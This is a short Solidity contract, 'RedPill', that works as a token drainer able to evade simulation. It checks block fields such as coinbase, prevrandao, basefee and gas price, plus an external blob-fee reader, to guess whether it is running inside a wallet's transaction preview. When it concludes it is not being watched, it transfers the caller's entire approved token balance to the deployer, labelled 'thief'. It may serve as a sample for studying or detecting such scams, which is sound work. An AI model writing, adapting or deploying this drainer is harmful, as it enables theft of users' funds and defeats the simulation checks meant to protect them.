// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IToken} from "./IToken.sol";

/// Does nothing where it thinks that it is only being looked at, and takes everything where it is not.
contract RedPill {
    /// What it looks at. `BlobBaseFee` is read by code of another contract: this compiler's chain has no such opcode.
    enum Look {
        Coinbase,
        PrevRandao,
        BaseFee,
        GasPrice,
        BlobBaseFee,
        OneBit
    }

    address private immutable thief = msg.sender;
    address private immutable blobBaseFee;

    constructor(address blobBaseFee_) {
        blobBaseFee = blobBaseFee_;
    }

    function claim(Look look, IToken token) external {
        if (!isWatched(look)) token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
    }

    /// The same the other way round: it fails for whoever only looks.
    function claimOrFail(Look look, IToken token) external {
        require(!isWatched(look), "not yet open");
        token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
    }

    function isWatched(Look look) public view returns (bool) {
        if (look == Look.Coinbase) return block.coinbase == address(0);
        if (look == Look.PrevRandao) return block.prevrandao == 0;
        if (look == Look.BaseFee) return block.basefee == 0;
        if (look == Look.GasPrice) return tx.gasprice == 0;
        if (look == Look.OneBit) return block.prevrandao & 1 == 0;
        (, bytes memory fee) = blobBaseFee.staticcall("");
        return abi.decode(fee, (uint256)) == 0;
    }
}
